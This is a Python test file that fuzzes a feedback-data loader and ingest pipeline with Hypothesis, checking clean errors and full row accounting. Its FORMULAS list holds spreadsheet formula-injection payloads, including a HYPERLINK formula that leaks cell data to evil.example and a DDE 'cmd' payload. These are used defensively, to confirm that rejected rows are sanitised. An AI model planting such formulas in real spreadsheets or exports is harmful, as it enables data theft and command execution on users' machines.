"""Property-based tests over the loaders and `ingest`: 0 crashes, 0 rows silently lost.

Every failure must be a ``UserError`` (one clear line), and for every file that loads,
``added + duplicates + rejected == read``. Hypothesis generates random bytes, wrong encodings, ragged CSV, huge
fields, deep JSON and formula-injection cells.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st

from retrieval.db import Database
from retrieval.errors import UserError
from retrieval.ingest import ingest_paths
from retrieval.loaders import load_file

EXTS = [".csv", ".tsv", ".json", ".jsonl", ".txt", ".xlsx", ".dat"]
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"]
cell = st.one_of(
    st.text(max_size=40),
    st.sampled_from(FORMULAS),
    st.text(alphabet="离线地图闪退登录电池", min_size=1, max_size=12),
    st.just("x" * 25_000),
    st.sampled_from(["2026-09-03", "1693751000000", "yesterday", "", "  ", "5", "★★★", "n/a"]),
)
FUZZ = hsettings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)


@FUZZ
@given(data=st.binary(max_size=2000), ext=st.sampled_from(EXTS))
def test_random_bytes_never_crash_the_loader(tmp_path_factory, data, ext):
    path = tmp_path_factory.mktemp("fuzz") / f"in{ext}"
    path.write_bytes(data)
    try:
        loaded = load_file(path)
    except UserError as err:
        assert "\n" not in str(err) and path.name in str(err)
        return
    assert all(r.row >= 1 for r in loaded.rows)


@FUZZ
@given(depth=st.integers(1, 5000), encoding=st.sampled_from(["utf-8", "utf-16", "gb18030", "cp1252", "latin-1"]))
def test_deep_json_and_wrong_encodings(tmp_path_factory, depth, encoding):
    folder = tmp_path_factory.mktemp("deep")
    nested = "[" * depth + '"x"' + "]" * depth
    (folder / "deep.json").write_text(nested)
    try:
        load_file(folder / "deep.json")
    except UserError:
        pass
    text = "text\nCafé crème brûlée – naïve 离线 ok\n"
    (folder / "enc.csv").write_bytes(text.encode(encoding, errors="replace"))
    try:
        loaded = load_file(folder / "enc.csv")
    except UserError:
        return
    assert len(loaded.rows) == 1


rows_strategy = st.lists(st.lists(cell, min_size=0, max_size=5), min_size=1, max_size=8)


@pytest.mark.slow
@hsettings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(rows=rows_strategy, header=st.lists(st.sampled_from(["text", "date", "rating", "note", "id", ""]),
                                           min_size=1, max_size=5))
def test_ingest_accounts_for_every_row(db_settings, tmp_path_factory, rows, header):
    folder = tmp_path_factory.mktemp("csv")
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(header)
    writer.writerows(rows)
    path = folder / "fuzz.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    with Database(db_settings).connect() as conn:
        before = conn.execute("SELECT count(*) FROM feedback").fetchone()[0]
    try:
        report = ingest_paths([path], db_settings).files[0]
    except UserError as err:
        assert "\n" not in str(err)
        with Database(db_settings).connect() as conn:
            assert conn.execute("SELECT count(*) FROM feedback").fetchone()[0] == before
        return
    assert report.added + report.duplicates + report.rejected == report.read
    with Database(db_settings).connect() as conn:
        assert conn.execute("SELECT count(*) FROM feedback").fetchone()[0] == before + report.added
    if report.rejects_path:
        with open(report.rejects_path, encoding="utf-8") as fh:
            for line in csv.reader(fh):
                assert not any(c.startswith(("=", "+", "@")) for c in line), line
